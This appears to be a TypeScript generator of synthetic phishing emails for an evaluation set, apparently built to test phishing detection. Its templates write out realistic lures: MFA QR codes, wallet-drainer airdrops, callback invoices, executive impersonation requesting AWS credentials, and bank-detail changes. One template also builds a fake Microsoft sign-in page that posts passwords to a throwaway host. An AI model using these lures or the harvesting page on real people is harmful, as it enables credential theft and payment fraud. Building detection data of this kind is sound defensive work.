              s.pick(['security@corp.example', 'it@corp.example']),
            )
          : own(
              s,
              s.pick(['Identity Team', 'IT Security Operations', 'Authenticator Services']),
              host,
              'identity',
            )),
        subject: s.pick([
          'MFA re-registration required for all staff',
          'Scan to keep your authenticator active',
          'Annual security key re-validation',
          `${title} - ${s.victim.first} ${s.victim.last}`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `Scan the QR code ${inPdf ? 'in the attached document' : 'below'} with your phone to re-register your authenticator before ${s.date()}.`,
            `Your authenticator registration expires this week. Use your phone camera to scan the code ${inPdf ? 'in the attachment' : 'below'}; the desktop link does not work for this step.`,
          ]),
          ...(inPdf ? [] : [{ image: 'qr.png' }]),
          s.pick([
            'Accounts not re-registered will lose access to internal tools.',
            'This is required by the SOC 2 audit.',
            'Do not forward this message, the code is personal.',
          ]),
        ],
        form: inPdf ? undefined : 'html',
        parts: inPdf
          ? [
              {
                type: 'application/pdf',
                name: s.pick([
                  'MFA-Reregistration.pdf',
                  `${title.replace(/ /g, '_')}.pdf`,
                  'Secure_Notice.pdf',
                ]),
                content: onePagePdf(
                  [title, 'Scan the code with your phone camera.', `Deadline: ${s.date()}`],
                  { jpeg: await qrJpeg(url) },
                ),
              },
            ]
          : [{ type: 'image/png', name: 'qr.png', content: await qrPng(url), inline: true }],
      };
    },
  },
  {
    name: 'html-attachment-login',
    kind: 'html-attachment-credential-page',
    write: (s) => {
      const host = s.throwaway();
      const doc = s.pick([
        'Q4_Infrastructure_Budget',
        'Incident_Postmortem_Review',
        'Salary_Adjustment_2027',
        'Vendor_Contract',
      ]);
      const d = s.compromised();
      return {
        from: mailbox(s.pick(['Accounts Payable', 'Sharepoint Online', 'Document Center']), `docs@${d}`),
        auth: passes(d),
        subject: s.pick([
          `${doc}.pdf shared with you`,
          `Document: ${doc}`,
          'You have a secure document waiting',
        ]),
        blocks: [
          s.greeting(),
          'Please find the secure document attached. Open it in your browser and sign in to view.',
          'Regards',
        ],
        parts: [
          {
            type: 'text/html',
            name: `${doc}.html`,
            content: Buffer.from(
              `<html><head><title>Microsoft - Sign in</title></head><body><form action="https://${host}/next.php" method="post"><input name="login" value="${s.address(s.victim)}"><input type="password" name="passwd"><button>Sign in</button></form></body></html>`,
            ),
          },
        ],
      };
    },
  },
  {
    name: 'wallet-airdrop-contributors',
    kind: 'crypto-wallet-drainer',
    write: (s) => {
      const token = s.pick(['DEVX', 'OSSR', 'GITC', 'BUILD']);
      const host = s.throwaway();
      return {
        ...own(
          s,
          s.pick([`${token} Foundation`, 'Open Source Rewards', 'Contributor Airdrop']),
          host,
          'claim',
        ),
        subject: s.pick([
          `You are eligible for the ${token} contributor airdrop`,
          'Your open-source contributions qualify for a reward',
          `Claim ${s.int(800, 5000)} ${token} - GitHub contributors`,
        ]),
        blocks: [
          s.greeting(),
          `We reward developers who contributed to top repositories. Your commits to ${ORG_SLUG}/${s.repo()} qualify you for ${s.int(800, 5000)} ${token} (about USD ${s.money(1200, 9000)}).`,
          'Connect your wallet to claim before the snapshot closes. Gas fees are covered.',
          { button: 'Connect wallet and claim', href: `https://${host}${s.path('claim')}` },
        ],
      };
    },
  },
  {
    name: 'wallet-grant-maintainers',
    kind: 'crypto-grant-lure',
    write: (s) => {
      const host = s.throwaway();
      return {
        ...own(s, s.pick(['Web3 Builders Grant', 'Open Infra Fund', 'Chain Devs Program']), host, 'grants'),
        subject: s.pick([
          'Grant approved for your open-source project',
          'Maintainer grant - verification step',
          'Congratulations: developer grant awarded',
        ]),
        blocks: [
          s.greeting(),
          `Your project ${s.pick(['halyard-sdk-go', 'flagd-edge'])} has been awarded a maintainer grant of ${s.int(5, 40)},000 USDC. To receive it, sign the verification message with the wallet you want paid.`,
          { button: 'Verify wallet', href: `https://${host}${s.path('verify')}` },
          'The signature is free and does not move funds.',
        ],
      };
    },
  },
  {
    name: 'ide-licence-callback',
    kind: 'callback-licence-renewal',
    write: (s) => {
      const product = s.pick([
        'JetBrains All Products Pack',
        'Visual Studio Enterprise',
        'GitHub Copilot Business',
        'Docker Business',
        'Postman Enterprise',
      ]);
      const phone = `+1 (${s.int(800, 888)}) ${s.int(200, 999)}-${s.int(1000, 9999)}`;
      const freemail = s.pick(FREEMAIL);
      const invoice = `INV-${s.int(100000, 999999)}`;
      return {
        from: mailbox(
          s.pick(['Billing Department', 'Licence Renewals', 'Order Confirmation']),
          `${s.token(8)}@${freemail}`,
        ),
        auth: passes(freemail),
        subject: s.pick([
          `Your ${product} licence has been renewed - ${invoice}`,
          `Order ${invoice} confirmed`,
          'Auto-renewal successful',
        ]),
        blocks: [
          s.greeting(),
          `Thank you for renewing ${product} for ${s.int(12, 60)} seats. USD ${s.money(3400, 18900)} will be charged to the card on file within 24 hours.`,
          {
            rows: [
              ['Invoice', invoice],
              ['Product', product],
              ['Term', '12 months'],
            ],
          },
          `If you did not authorise this renewal, call our billing desk at ${phone} to cancel and receive a full refund.`,
          'Billing Support',
        ],
        parts: s.chance(0.5)
          ? [
              {
                type: 'application/pdf',
                name: `${invoice}.pdf`,
                content: onePagePdf([`Invoice ${invoice}`, product, `To cancel call ${phone}`]),
              },
            ]
          : undefined,
      };
    },
  },
  {
    name: 'cto-freemail-keys',
    kind: 'executive-impersonation',
    write: (s) => {
      const freemail = s.pick(FREEMAIL);
      const boss = s.boss;
      const local = s.pick([
        `${boss.first.toLowerCase()}.${boss.last.toLowerCase().replace(/[^a-z]/g, '')}${s.int(1, 99)}`,
        `${boss.first.toLowerCase()}${boss.last[0].toLowerCase()}.${s.pick(['work', 'office', 'private'])}`,
      ]);
      return {
        from: mailbox(s.full(boss), `${local}@${freemail}`),
        auth: passes(freemail),
        ...(s.chance(0.3)
          ? { replyTo: mailbox(s.full(boss), `${boss.first.toLowerCase()}.exec@${s.pick(FREEMAIL)}`) }
          : {}),
        subject: s.pick([
          'quick favour',
          'Need this before the board call',
          'urgent - prod access',
          'Are you at your desk?',
          'confidential',
        ]),
        blocks: [
          s.pick([`${s.victim.first},`, `Hi ${s.victim.first}`, `${s.victim.first} - are you around?`]),
          s.pick([
            'I am stuck at the airport on my personal laptop and locked out of SSO. Can you send me the AWS root credentials from the vault, or create an access key for me and paste it here? The auditors need a screenshot in the next hour.',
            'I need the production deploy token for the investor demo. Please send it to this address, my work mail is not syncing. Keep this between us for now.',
            `We are closing a deal with ${s.pick(['a new customer', 'an acquirer', 'a strategic partner'])} today and their security team needs read access to the ${s.repo()} repository. Add the GitHub user ${s.pick(['dev-audit-77', 'sec-review-partner', 'mkovacs-sec'])} as an admin, and do not mention it in Slack until it is announced.`,
            'Please buy 5 Apple gift cards of 200 USD for the on-call appreciation surprise and send me the codes here. I will approve the expense tonight.',
          ]),
          s.pick([
            'Thanks',
            `${boss.first}\nSent from my iPhone`,
            `Thx\n${boss.first}`,
            `${boss.first}\n${boss.role}`,
          ]),
        ],
      };
    },
  },
  {
    name: 'vendor-bank-change',
    kind: 'supplier-bank-change',
    write: (s) => {
      const vendor = s.pick([
        'Brightline Hosting',
        'Stackwise Consulting',
        'Loomis Data Centers',
        'Orbitel Networks',
      ]);
      const domain = s.firmDomain(vendor);
      return {
        from: mailbox(`${vendor} Accounts`, `accounts@${domain}`),
        auth: passes(domain),
        to: mailbox(s.full(s.boss), s.address(s.boss)),
        subject: s.pick([
          'Updated remittance details',
          `${vendor} - change of bank account`,
          'Outstanding invoice and new payment details',
        ]),
        blocks: [
          'Hello,',
          `Please note that ${vendor} has changed banks following an audit. All payments for colocation and support invoices should go to the new account from today. The outstanding invoice of EUR ${s.money(8000, 48000)} is overdue.`,
          {
            rows: [
              [
                'IBAN',
                `GB${s.int(10, 99)} ${s.upper(4)} ${s.int(1000, 9999)} ${s.int(1000, 9999)} ${s.int(1000, 9999)} ${s.int(10, 99)}`,
              ],
              ['SWIFT', s.upper(8)],
            ],
          },
          'Kindly confirm once the details are updated. Do not use the old account.',
          `Regards,\nAccounts Receivable, ${vendor}`,
        ],
      };
    },
  },
  {
    name: 'vpn-client-update',
    kind: 'fake-it-software-update',
    write: (s) => {
      const host = s.throwaway();
      const file = s.pick(['GlobalProtect-Update.zip', 'VPN-Client-6.2.zip', 'ZscalerConnector.zip']);
      const attach = s.chance(0.5);
      return {
        ...(s.chance(0.5)
          ? forged(s, 'IT Helpdesk', 'helpdesk@corp.example')
          : own(s, `${COMPANY} IT Helpdesk`, host, 'helpdesk')),
        subject: s.pick([
          'Mandatory VPN client update',
          'Security update for remote access - install today',
          'New VPN certificate required',
        ]),
        blocks: [
          s.greeting(),
          'A vulnerability in the current VPN client is being exploited. Install the updated client today; connections from the old version will be blocked from tomorrow.',
          attach
            ? 'The installer is attached. Run it with your normal account.'
            : { button: 'Download the update', href: `https://${host}${s.path('download')}` },
          'IT Helpdesk',
        ],
        parts: attach
          ? [{ type: 'application/zip', name: file, content: zipOf(file.replace('.zip', '.exe')) }]
          : undefined,
      };
    },
  },
  {
    name: 'shared-rfc-document',
    kind: 'shared-document-lure',
    write: (s) => {
      const tool = s.pick(['Google Docs', 'Notion', 'Confluence', 'Dropbox']);
      const host = s.lookalike(tool.toLowerCase().replace(/ .*/, ''));
      const doc = s.pick([
        'RFC-042 Multi-region failover',
        'Reorg and headcount plan 2027',
        'Compensation bands - Engineering',
        'Postmortem: 14 Nov outage',
      ]);
      return {
        ...own(s, `${s.full(s.mate)} (via ${tool})`, host, 'share'),
        subject: s.pick([
          `${s.full(s.mate)} shared "${doc}" with you`,
          `Document shared with you: "${doc}"`,
          `Review requested: ${doc}`,
        ]),
        blocks: [
          `${s.full(s.mate)} shared a document with you.`,
          {
            quote: s.pick([
              'Please review before tomorrow, confidential.',
              'Need your sign-off today.',
              'FYI - do not forward.',
            ]),
          },
          { button: 'Open', href: `https://${host}${s.path('d', s.token(12))}` },
        ],
      };
    },
  },
  {
    name: 'docusign-acquisition-nda',
    kind: 'e-signature-lure',
    write: (s) => {
      const host = s.pick([s.lookalike('docusign'), s.throwaway()]);
      const doc = s.pick([
        'Mutual NDA - Project Lighthouse',
        'Stock option amendment',
        'Retention agreement 2027',
        'Revised remote work policy',
        'Contractor offboarding form',
      ]);
      return {
        ...brandSender(
          s,
          `${s.pick(['Legal', 'M&A Counsel', 'Corporate Development', 'People Operations', s.full(s.boss)])} via DocuSign`,
          'dse@docusign.net',
          'docusign',
        ),
        brand: 'DocuSign',
        subject: s.pick([
          `Please DocuSign: ${doc}`,
          `Completed: ${doc}`,
          `Review and sign: ${doc}`,
          `Reminder: ${doc} awaiting your signature`,
        ]),
        blocks: [
          s.pick([
            'You have received a document to review and sign.',
            `${s.full(s.boss)} sent you a document to review and sign.`,
            'Your signature is required on the document below.',
          ]),
          ...(s.chance(0.5)
            ? [
                {
                  quote: s.pick([
                    'Confidential - please do not discuss with the team yet.',
                    'Needs to be signed today for payroll.',
                    'Please sign before the board meeting.',
                  ]),
                },
              ]
            : []),
          {
            button: s.pick(['REVIEW DOCUMENT', 'VIEW COMPLETED DOCUMENT', 'Sign now']),
            href: `https://${host}${s.path('signing', 'envelope')}`,
          },
          s.pick([
            'Do not share this email. This message was sent to you by DocuSign Electronic Signature Service.',
            'You will be asked to sign in with your work email to access the document.',
          ]),
        ],
      };
    },
  },
  {
    name: 'ssh-key-added',
    kind: 'account-change-alert-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['github', 'bitbucket', 'gitlab']));
      const fp = Array.from({ length: 8 }, () => s.hex(2)).join(':');
      return {
        ...own(s, s.pick(['GitHub', 'Bitbucket', 'GitLab']), host, 'noreply'),
        subject: s.pick([
          'A new SSH key was added to your account',
          '[Alert] Deploy key added with write access',
          'New public key added',
        ]),
        blocks: [
          s.greeting(),
          'The following SSH key was added to your account:',
          { code: `deploy-${s.token(5)}\nMD5:${fp}` },
          'If you did not add this key, revoke it immediately and reset your password.',
          { button: 'Revoke key', href: `https://${host}${s.path('settings', 'keys')}` },
        ],
      };
    },
  },
  {
    name: 'security-key-shipment',
    kind: 'hardware-token-lure',
    write: (s) => {
      const host = s.throwaway();
      const carrier = s.pick(['DHL Express', 'UPS', 'FedEx', 'the courier']);
      return {
        ...own(
          s,
          s.pick([
            'Yubico Fulfilment',
            'Security Key Program',
            `${COMPANY} IT Logistics`,
            'Hardware Token Dispatch',
          ]),
          host,
          s.pick(['orders', 'dispatch', 'shipping']),
        ),
        subject: s.pick([
          'Your security key could not be delivered',
          'Confirm your shipping address for your YubiKey',
          'Hardware key shipment on hold',
          `Delivery attempt failed - order ${s.upper(8)}`,
        ]),
        blocks: [
          s.greeting(),
          s.pick([
            `Your company-issued security key is on hold at the depot of ${carrier}. Confirm your address and pay the customs fee of EUR ${s.money(1, 4)} to release it.`,
            `${carrier} could not deliver the YubiKey ordered by ${COMPANY} IT. Choose a new delivery slot; a redelivery fee of EUR ${s.money(1, 3)} applies.`,
            'Your new security key has been shipped. Before activation, confirm your identity with your current SSO password.',
          ]),
          {
            button: s.pick(['Confirm delivery', 'Track shipment', 'Choose a delivery slot']),
            href: `https://${host}${s.path('track')}`,
          },
        ],
      };
    },
  },
  {
    name: 'vscode-publisher-verify',
    kind: 'extension-marketplace-lure',
    write: (s) => {
      const host = s.lookalike(s.pick(['marketplace', 'vsmarketplace', 'openvsx']));
      const ext = s.pick(['halyard-flags', 'halyard-lens', 'flag-linter']);
      return {
        ...brandSender(s, 'Visual Studio Marketplace', 'vsmarketplace@microsoft.com', 'vsmarketplace'),
        subject: s.pick([
          `Your extension ${ext} has been unpublished`,
          'Publisher verification required',
          `Policy violation: ${ext}`,
        ]),
        blocks: [
          s.greeting(),
          `Your extension ${ORG_SLUG}.${ext} was unpublished after an automated scan reported ${s.pick(['obfuscated code', 'a typosquatting complaint', 'suspicious network calls'])}. Verify the publisher account to request a review.`,
          { button: 'Verify publisher', href: `https://${host}${s.path('manage', 'publishers', ORG_SLUG)}` },
        ],
      };
    },
  },
];

const TEMPLATES: Template[] = [...PHISHING, ...MORE_PHISHING, ...LOCAL_PHISHING];

export const UNSEEN_17_KINDS: readonly string[] = [...new Set(TEMPLATES.map((t) => t.kind))];
export const UNSEEN_17_TEMPLATE_COUNT: number = TEMPLATES.length;

export async function unseenPhishing17(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<Built[]> {
  return buildSet(TEMPLATES, perTemplate, seed, seededRandom, 17_000);
}
